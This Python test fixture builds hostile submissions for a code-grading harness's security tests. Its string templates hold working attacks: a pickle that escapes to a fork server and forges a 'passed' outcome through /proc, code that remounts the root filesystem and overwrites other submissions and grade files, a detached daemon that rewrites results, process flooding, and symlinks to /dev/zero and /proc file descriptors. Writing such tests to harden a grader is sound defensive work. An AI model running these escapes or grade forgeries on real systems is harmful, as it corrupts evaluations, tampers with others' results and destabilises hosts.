"""Hostile submissions for tests/test_grading_hostile.py, each built here from the answers'
submission (tests/answers_fixture.py): with the public stub's adapters (worth 0) or as it is,
plus one attack run by every rank when its adapters are imported. An attack that reports what it managed raises with that line, so the
grade's reason shows it.

* ``forkserver``: connects to the fork server (its address, and every ``listener-*`` socket it
  can find) and sends a pickle that, run there, writes a "passed" outcome into pytest's outcome
  pipe through ``/proc``, interrupts pytest, and writes a canary file outside the scratch copy
  (at f075e9f this scored the stub full points);
* ``others``: remounts ``/`` writable, replaces other submissions' adapters (in the folder of
  submissions and in their scratch copies) with the stub, and rewrites graded submissions'
  grade.json and results.json, and a later one's, to forged grades;
* ``daemon``: a double-forked process in a new session, with an empty environment, that rewrites
  its own results once the grading is over, and leaves a file in /tmp;
* ``discovery``: a correct solution whose pyproject.toml names workspace members by a deep glob
  over a 30-deep tree, absolute paths and paths outside the submission;
* ``host``: creates and deletes files in /dev, opens a sysctl and the memory cgroup's limit for
  writing, and starts as many processes as it can (up to 700);
* ``links``: a correct solution whose ``pyproject.toml`` links to ``/dev/zero`` (it OOM-killed the
  harness at 93fe110), a ``.gitmodules`` to ``/proc/self/fd/0`` (it blocked the harness), files
  linked to ``/proc/self/fd/3`` … ``/proc/self/fd/9`` (a neighbour's outcome pipe at JOBS>1) and
  a FIFO: the harness must read none of them and grade the code;
* ``all``: the daemon, the fork-server escape and the host attacks in one submission.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.test_grading import make_submission

FORKSERVER = '''
import os as _os, pickle as _pickle, socket as _socket
from multiprocessing import forkserver as _fs, reduction as _red

_PAYLOAD = {payload!r}


class _Run:
    def __reduce__(self):
        return (exec, (_PAYLOAD, {{}}))


def _escape():
    addresses = [_fs._forkserver._forkserver_address]
    seen = 0
    for top in {{_os.environ.get("TMPDIR", "/tmp"), "/tmp"}}:
        for folder, dirs, files in _os.walk(top):
            seen += len(files) + len(dirs)
            addresses += [_os.path.join(folder, f) for f in files if f.startswith("listener-")]
            if seen > 20000:
                break
    for address in filter(None, addresses):
        try:
            with _socket.socket(_socket.AF_UNIX) as s:
                s.connect(address)
                r, w = _os.pipe()
                r2, w2 = _os.pipe()
                _red.sendfds(s, [r, w2, w2, w2])
                _os.write(w, _pickle.dumps(_Run()))
                return True
        except OSError:
            pass
    return False


if _escape():
    import time as _time
    _time.sleep(10)  # pytest is stopped before this rank's own failure reaches it
'''

OTHERS = '''
import ctypes as _ctypes, glob as _glob, json as _json, os as _os

_done = []
if _ctypes.CDLL(None, use_errno=True).mount(None, b"/", None, 32, None) == 0:  # MS_REMOUNT, writable
    _done.append("remounted /")
_stub = "def get_ddp_individual_parameters(*a, **k):\\n    raise NotImplementedError\\n"
for _path in {victims!r} + _glob.glob("/tmp/grade-*/submission/**/adapters.py", recursive=True):
    if _os.path.realpath(_path).startswith(_os.path.realpath(_os.getcwd()) + "/"):
        continue  # its own scratch copy
    try:
        with open(_path, "w") as _f:
            _f.write(_stub)
        _done.append(_path)
    except OSError:
        pass
_forged = _json.dumps({{"rows": [], "tests": [], "seconds": 0, "score": 0}})
for _path in {outputs!r}:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(_forged)
        _done.append(_path)
    except OSError:
        pass
raise RuntimeError("others: wrote " + (", ".join(_done) or "nothing"))
'''

DAEMON = '''
import os as _os, sys as _sys
_code = """
import sys, time
time.sleep(2)
for path in {paths!r}:
    try:
        with open(path, "w") as f:
            f.write('{{"score": 35.0, "tests": []}}')
    except OSError:
        pass
"""
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execve(_sys.executable, [_sys.executable, "-c", _code, {marker!r}], {{}})
    _os._exit(0)
'''

HOST = '''
import glob as _glob, os as _os, signal as _signal


def _host():
    managed = []
    try:
        open("/dev/grading-probe-{marker}", "w").close()
        managed.append("created a file in /dev")
    except OSError:
        pass
    try:
        _os.unlink({dev_canary!r})
        managed.append("deleted a file in /dev")
    except OSError:
        pass
    knobs = ["/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/sys/kernel/mm/transparent_hugepage/enabled"]
    knobs += _glob.glob("/sys/fs/cgroup/memory/memory.limit_in_bytes") + _glob.glob("/sys/fs/cgroup/**/memory.max",
                                                                                     recursive=True)[:5]
    for path in knobs:
        try:
            _os.close(_os.open(path, _os.O_WRONLY))  # opened, never written
            managed.append("opened " + path + " for writing")
        except OSError:
            pass
    children = []
    for _ in range(700):
        try:
            children.append(_os.posix_spawn("/bin/sleep", ["sleep", "60"], {{}}))
        except OSError:
            break
    for pid in children:
        _os.kill(pid, _signal.SIGKILL)
        _os.waitpid(pid, 0)
    if len(children) >= 700:
        managed.append("started 700 processes")
    return "host: managed " + (", ".join(managed) or "nothing") + f" ({{len(children)}} processes started)"


raise RuntimeError(_host())
'''

# What the pickle runs where it lands: "passed" written into pytest's outcome pipe (found by its
# --grading-fd flag), pytest interrupted before it reports the real outcome, a canary written
# outside the scratch copy.
ESCAPED = """
import json as _json, os as _os, signal as _signal
_line = (_json.dumps({"test": "test_sharded_optimizer.py::test_sgd_with_momentum",
                      "problem": "optimizer_state_sharding", "passed": True, "skipped": False,
                      "reason": "", "seconds": 0.0}) + "\\n").encode()
for _pid in filter(str.isdigit, _os.listdir("/proc")):
    try:
        _args = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for _arg in _args:
        if _arg.startswith(b"--grading-fd="):
            try:
                with open(f"/proc/{_pid}/fd/{int(_arg.split(b'=')[1])}", "ab") as _f:
                    _f.write(_line)
                _os.kill(int(_pid), _signal.SIGINT)
            except OSError:
                pass
open(%r, "w").write("escaped")
"""

STUB_BASED = {"forkserver", "others", "daemon", "host", "all"}


def build(folder: Path, name: str, stub: bool = False) -> Path:
    """The answers' submission (correct, or with the stub's adapters) as ``folder/name``."""
    scratch = folder / f".build-{name}"
    scratch.mkdir(parents=True)
    tree = make_submission(scratch, stub=stub).rename(folder / name)
    scratch.rmdir()
    return tree


def hostile(folder: Path, kind: str, name: str, **paths) -> Path:
    """The ``kind`` submission as ``folder/name``; ``paths`` are what the attack aims at."""
    tree = build(folder, name, stub=kind in STUB_BASED)
    adapters = tree / "tests" / "adapters.py"
    attack = {
        "forkserver": lambda: FORKSERVER.format(payload=ESCAPED % str(paths["canary"])),
        "others": lambda: OTHERS.format(victims=[str(p) for p in paths["victims"]],
                                        outputs=[str(p) for p in paths["outputs"]]),
        "daemon": lambda: DAEMON.format(paths=[str(p) for p in paths["outputs"]], marker=paths["marker"]),
        "host": lambda: HOST.format(marker=paths["marker"], dev_canary=str(paths["dev_canary"])),
        "discovery": lambda: "",
        "links": lambda: "",
    }
    attack["all"] = lambda: attack["daemon"]() + attack["forkserver"]() + attack["host"]()
    attack = attack[kind]()
    adapters.write_text(attack + adapters.read_text())
    if kind == "discovery":
        deep = tree / "deep"
        (deep / "/".join(["d"] * 30)).mkdir(parents=True)
        members = ["deep/**/**/**/**/**/**/**", "/", "/etc", "../..", "deep/../../.."]
        (tree / "pyproject.toml").write_text("[project]\nname = \"x\"\n[tool.uv.workspace]\nmembers = "
                                             + json.dumps(members) + "\n[tool.uv.sources]\n"
                                             "basics = { path = \"/usr/lib\" }\n")
    if kind == "links":
        (tree / "pyproject.toml").symlink_to("/dev/zero")
        (tree / ".gitmodules").symlink_to("/proc/self/fd/0")
        for fd in range(3, 10):
            (tree / f"outcomes-{fd}.toml").symlink_to(f"/proc/self/fd/{fd}")
        os.mkfifo(tree / "fifo.py")
    return tree
